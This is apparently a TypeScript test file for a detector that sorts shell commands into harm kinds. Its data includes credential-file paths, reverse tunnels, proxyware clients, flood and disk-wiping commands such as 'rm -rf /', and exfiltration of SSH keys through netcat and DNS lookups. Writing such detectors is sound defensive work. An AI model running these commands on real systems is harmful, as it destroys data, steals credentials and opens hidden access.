import { describe, expect, test } from 'vitest';
import type { EffectDraft } from '../effect.ts';
import type { CommandDraft } from '../language.ts';
import type { Redirect } from '../story.ts';
import type { Value } from '../value.ts';
import { harmEffects } from './harm.ts';
import { isPoolAddress, isWalletLike } from './mining-pools.ts';
import { clientOfImage, clientOfProgram, clientOfVariable, proxywareClients } from './proxyware-clients.ts';
import { secretAt, secretsIn } from './secrets.ts';

/** `name argument…`, blanks split; `$x` becomes a hole. */
function command(line: string, more: Partial<CommandDraft> = {}): CommandDraft {
  const argv: Value[] = line.split(' ').map((word) => (word.startsWith('$') ? [{ hole: word }] : [word]));
  const first = argv[0]?.[0];
  const name = typeof first === 'string' ? (first.split('/').at(-1) ?? '') : '';
  return { argv, line: 1, name, via: [], env: {}, redirects: [], background: false, text: line, ...more };
}

function effects(line: string, more: Partial<CommandDraft> = {}): readonly EffectDraft[] {
  const one = command(line, more);
  return harmEffects(one, { peers: [one], position: 0 });
}

const kinds = (line: string, more: Partial<CommandDraft> = {}) => effects(line, more).map(({ kind }) => kind);
const from = (path: string): { readonly redirects: readonly Redirect[] } => ({
  redirects: [{ fd: 0, op: '<', target: [path] }],
});

describe('paths of secrets', () => {
  test.each([
    ['/etc/shadow', 'password-table'],
    ['/host/etc/shadow', 'password-table'],
    ['/root/.ssh/id_rsa', 'ssh-key'],
    ['/home/*/.ssh', 'ssh-key'],
    ['~/.ssh/deploy.pem', 'ssh-key'],
    ['id_ed25519', 'ssh-key'],
    ['/etc/ssh/ssh_host_rsa_key', 'ssh-key'],
    ['~/.aws/credentials', 'cloud'],
    ['/root/.config/gcloud', 'cloud'],
    ['/root/.docker/config.json', 'registry'],
    ['.npmrc', 'registry'],
    ['/root/.kube/config', 'cluster'],
    ['/var/run/secrets/kubernetes.io/serviceaccount/token', 'cluster'],
    ['/root/.git-credentials', 'source-code'],
    ['/home/u/.mozilla/firefox/x.default/logins.json', 'browser'],
    ['/home/u/.config/google-chrome/Default/Login Data', 'browser'],
    ['/root/.ethereum/keystore', 'wallet'],
    ['wallet.dat', 'wallet'],
    ['/proc/1/environ', 'environment'],
    ['/proc/*/environ', 'environment'],
    ['/proc/*/mem', 'memory'],
    ['/proc/4711/mem', 'memory'],
    ['/root/.bash_history', 'history'],
    ['/root/.pgpass', 'database'],
    ['/app/.env', 'dotenv'],
  ])('%s: %s', (path, kind) => {
    expect(secretAt(path)).toBe(kind);
  });

  test.each([
    '/etc/passwd',
    '/root/.ssh/id_rsa.pub',
    '/root/.ssh/known_hosts',
    '/root/.ssh/authorized_keys',
    '/root/.ssh/config',
    '/app/.env.example',
    '/proc/self/mem',
    '/proc/meminfo',
    '/proc/1/status',
    '/usr/share/shadow/x',
    '/opt/awscli/v2',
    '/srv/.awsome',
    'credentials',
    '',
  ])('not: %s', (path) => {
    expect(secretAt(path)).toBeUndefined();
  });

  test('by the working folder', () => {
    expect(kinds('cat shadow', { cwd: '/etc' })).toContain('secret');
    expect(kinds('cat credentials', { cwd: '/root/.aws' })).toContain('secret');
    expect(kinds('cat shadow', { cwd: '/srv' })).toEqual([]);
    expect(kinds('cat credentials', { cwd: '/srv' })).toEqual([]);
  });

  test('in the words of a command', () => {
    expect([...secretsIn('$(tar czf - /root/.ssh "/root/.aws" | base64)')]).toEqual(['ssh-key', 'cloud']);
    expect([...secretsIn('$(env | base64)')]).toEqual(['environment']);
    expect([...secretsIn('json.dumps(dict(os.environ))')]).toEqual(['environment']);
    expect([...secretsIn("os.environ['HOME'] + os.environ.get('X'); process.env.PATH")]).toEqual([]);
    expect([...secretsIn('environment set up for the env')]).toEqual([]);
  });
});

describe('tunnels', () => {
  test.each([
    ['frpc -c /etc/frpc.toml', 'frpc'],
    ['chisel client relay.example:80 R:2222:localhost:22', 'chisel'],
    ['/tmp/x client relay.example:80 R:socks', 'chisel (as x)'],
    ['ngrok tcp 22', 'ngrok'],
    ['cloudflared tunnel run --token abc', 'cloudflared'],
    ['cloudflared tunnel --url http://localhost:80', 'cloudflared'],
    ['./y tunnel run --token=eyJhIjoi', 'cloudflared (as y)'],
    ['gost -L=rtcp://:2222/:22 -F=relay+tls://203.0.113.9:443', 'gost'],
    ['./z -L=rtcp://:2222/:22 -F=relay+tls://203.0.113.9:443', 'gost (as z)'],
    ['bore local 22 --to bore.pub', 'bore'],
    ['rathole client.toml', 'rathole'],
    ['ssh -N -R 2222:localhost:22 u@203.0.113.9', 'ssh'],
    ['localtonet authtoken x', 'localtonet'],
    ['./sshd tcp --server-addr=203.0.113.9 --remote-port=6000', 'frpc (as sshd)'],
    ['tailscale up --authkey=x', 'tailscale'],
    ['zerotier-cli join 0123456789abcdef', 'zerotier-cli'],
    ['tor -f /etc/torrc', 'tor'],
  ])('%s', (line, tool) => {
    expect(effects(line).find(({ kind }) => kind === 'tunnel')).toMatchObject({ tool });
  });

  test.each([
    'ssh -L 5432:db:5432 u@jump.example',
    'ssh -D 1080 u@jump.example',
    'frpc --version',
    'ngrok version',
    'chisel server --port 80',
    'cloudflared version',
    'rathole --server server.toml',
    'tailscale status',
    'tor --verify-config',
    'npm client tcp',
    'app client example.com',
  ])('not: %s', (line) => {
    expect(kinds(line)).not.toContain('tunnel');
  });
});

describe('proxyware', () => {
  test.each([
    ['honeygain -tou-accept -email a@b.example -pass x -device d', 'honeygain'],
    ['./x -tou-accept -email=a@b.example -pass=x', 'honeygain'],
    ['pawns-cli -email=a@b.example -password=x -device-name=d -device-id=1 -accept-tos', 'pawns'],
    ['./x -email=a@b.example -password=x -device-name=d -device-id=1 -accept-tos', 'pawns'],
    ['./Cli start accept --token abc', 'traffmonetizer'],
    ['p2pclient --login a@b.example', 'peer2profit'],
    ['psclient', 'packetstream'],
    ['bitpingd login --email a@b.example --password x', 'bitping'],
    ['myst service --agreed-terms-and-conditions', 'mysterium'],
    ['./m service --agreed-terms-and-conditions', 'mysterium'],
    ['earnapp start', 'earnapp'],
    ['titan-edge daemon start', 'titan-edge'],
    ['/nh.sh --token=x --mode=exchange', '9hits'],
    ['docker run -d honeygain/honeygain -tou-accept -email a -pass b -device c', 'honeygain'],
    ['docker run -d --name a iproyal/pawns-cli:latest -email=a -password=b -accept-tos', 'pawns'],
    ['docker run -e P2P_EMAIL=a@b.example x/y', 'peer2profit'],
    ['podman run docker.io/repocket/repocket', 'repocket'],
    ['docker run -d registry.example/mirror/x start accept --token abc', 'traffmonetizer'],
  ])('%s', (line, client) => {
    expect(effects(line).find(({ kind }) => kind === 'proxyware')).toMatchObject({ client });
  });

  test.each([
    'docker run nginx',
    'docker run -e EMAIL=x app',
    'docker rmi honeygain/honeygain',
    'docker pull traffmonetizer/cli_v2',
    'grep honeygain /etc/hosts',
    'pkill -f honeygain',
    'honeygain --version',
    'certbot --agree-tos --email a@b.example',
    'myst status',
    'app start --token x',
    'bind --hash x',
  ])('not: %s', (line) => {
    expect(kinds(line)).not.toContain('proxyware');
  });

  test('the table answers by program, image and variable; nothing of it is there twice', () => {
    for (const client of proxywareClients) {
      for (const program of client.programs) expect(clientOfProgram(program)?.id).toBe(client.id);
      for (const image of client.images) expect(clientOfImage(`docker.io/${image}:1`)?.id).toBe(client.id);
      for (const variable of client.variables) expect(clientOfVariable(variable)?.id).toBe(client.id);
    }
    expect(clientOfProgram('pawns-cli-linux-amd64')?.id).toBe('pawns');
    expect(clientOfImage('traffmonetizer/cli_v2@sha256:00')?.id).toBe('traffmonetizer');
    expect(clientOfImage('library/nginx')).toBeUndefined();
    expect(clientOfVariable('CID')).toBeUndefined();
    expect(clientOfVariable('constructor')).toBeUndefined();
  });
});

describe('floods, destruction, encryption', () => {
  test.each([
    ['hping3 -S --flood -p 80 victim.example', 'flood'],
    ['ping -f victim.example', 'flood'],
    ['slowloris victim.example', 'flood'],
    ['python3 goldeneye.py http://victim.example -w 50', 'flood'],
    ['./x UDP 192.0.2.1:80 100 3600', 'flood'],
    ['rm -rf /', 'destroy'],
    ['rm -rf /*', 'destroy'],
    ['rm -fr /host/etc', 'destroy'],
    ['find / -delete', 'destroy'],
    ['find /host -type f -exec rm -f {} ;', 'destroy'],
    ['dd if=/dev/zero of=/dev/sda', 'destroy'],
    ['shred -n1 /dev/vda', 'destroy'],
    ['mkfs.ext4 /dev/nvme0n1p1', 'destroy'],
    ['wipefs -a /dev/sdb', 'destroy'],
    ['redis-cli flushall', 'destroy'],
    ['openssl enc -aes-256-cbc -in $f -out x', 'encrypt'],
    ['gpg --batch -c $f', 'encrypt'],
    ['7z a -psecret out.7z /home', 'encrypt'],
    ['zip -P x out.zip $f', 'encrypt'],
    ['sysctl -w vm.nr_hugepages=1280', 'tune'],
    ['wrmsr -a 0xc0011022 0x1', 'tune'],
    ['hydra -L u -P p ssh://198.51.100.7', 'login'],
    ['ssh root@$h id', 'login'],
    ['npm publish', 'publish'],
    ['cargo publish', 'publish'],
    ['gcore 17', 'secret'],
    ['cat /root/.ssh/id_rsa', 'secret'],
    ['dd if=/proc/$p/mem', 'secret'],
    ['shodan search port:2375', 'scan'],
    ['nc -z $ip 2375', 'scan'],
    ['curl -s http://$ip:10250/pods', 'scan'],
  ])('%s: %s', (line, kind) => {
    const parts = line.includes('$ip')
      ? {
          argv: line
            .split(' ')
            .map(
              (word): Value =>
                word.includes('$ip')
                  ? [word.split('$ip')[0] ?? '', { hole: '$ip' }, word.split('$ip')[1] ?? '']
                  : [word],
            ),
        }
      : {};
    const proc = line.includes('$p/')
      ? { argv: [['dd'], ['if=/proc/', { hole: '$p' }, '/mem']] satisfies Value[] }
      : {};
    expect(kinds(line, { ...parts, ...proc })).toContain(kind);
  });

  test.each([
    'ping -c 4 example.com',
    'hping3 -c 1 -S -p 80 example.com',
    'ab -n 100 http://app/',
    'http POST api.example/items a=1',
    'rm -rf /tmp/x /var/cache/apt /var/lib/apt/lists',
    'rm -rf $DIR',
    'rm -f /etc/nginx/conf.d/default.conf',
    'rm -rf /var/lib/mysql/*',
    'find / -name *.pyc -delete',
    'find /tmp -delete',
    'dd if=/dev/zero of=/swapfile',
    'dd if=/dev/sda of=/backup/disk.img',
    'mkfs.ext4 /out/disk.img',
    'openssl enc -d -aes-256-cbc -in a -out b',
    'openssl enc -base64 -in a',
    'gpg --decrypt a.gpg',
    '7z x a.7z',
    'zip -r out.zip /data',
    'sysctl vm.nr_hugepages',
    'ssh -V',
    'npm publish --dry-run',
    'npm install',
    'chmod 600 /root/.ssh/id_rsa',
    'cp /secrets/aws/credentials /root/.aws/credentials',
    'ssh-keygen -f /root/.ssh/id_rsa',
    'nc -z $REDIS_HOST 6379',
    'curl -s http://docker:2375/_ping',
  ])('not: %s', (line) => {
    expect(kinds(line).filter((kind) => kind !== 'exfiltrate')).toEqual([]);
  });
});

describe('what is sent', () => {
  test('what stood in the file, through a rename and a pipe', () => {
    const peers = [
      command('tar czf /tmp/a /root/.ssh'),
      command('mv /tmp/a /tmp/b'),
      command('nc 203.0.113.9 99', from('/tmp/b')),
    ];
    const [sent] = harmEffects(peers[2] as CommandDraft, { peers, position: 2 });
    expect(sent).toMatchObject({
      kind: 'exfiltrate',
      via: 'socket',
      to: ['203.0.113.9:99'],
      holds: [{ hole: '$(tar czf /tmp/a /root/.ssh)' }],
    });
  });
  test('names that are looked up', () => {
    const data: Value = [{ hole: '$(base64 /etc/hostname)' }, '.c.example'];
    expect(effects('dig x', { argv: [['dig'], data] })).toMatchObject([
      { kind: 'exfiltrate', via: 'dns', to: ['c.example'] },
    ]);
    expect(effects('dig x', { argv: [['dig'], [{ hole: '$HOST' }, '.c.example']] })).toEqual([]);
  });
  test('nothing telling', () => {
    expect(effects('nc logs.example 514', from('/var/log/app.log'))).toEqual([]);
    expect(effects('mail root@mail.example', from('/tmp/report.txt'))).toEqual([]);
  });
});

describe('pools and wallets', () => {
  test.each([
    'pool.supportxmr.com:3333',
    'stratum+ssl://gulf.moneroocean.stream:20128',
    'xmr-eu1.nanopool.org:14433',
    'de.minexmr.com',
  ])('%s', (pool) => {
    expect(isPoolAddress([pool])).toBe(true);
  });
  test.each(['example.com:3333', 'notsupportxmr.com:1', '', 'nanopool.org.example:1'])('not: %s', (pool) => {
    expect(isPoolAddress([pool])).toBe(false);
  });
  test.each([
    `4${'A'.repeat(94)}`,
    `0x${'ab'.repeat(20)}`,
    `0x${'ab'.repeat(20)}.rig1`,
    `kaspa:q${'a'.repeat(60)}`,
    'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4',
    `1${'A'.repeat(33)}`,
  ])('wallet %s', (text) => {
    expect(isWalletLike(text)).toBe(true);
  });
  test.each(['admin', 'user:secret', 'root', '0x12', 'a@b.example', '', 'deploy.worker'])('no wallet: %s', (text) => {
    expect(isWalletLike(text)).toBe(false);
  });
});
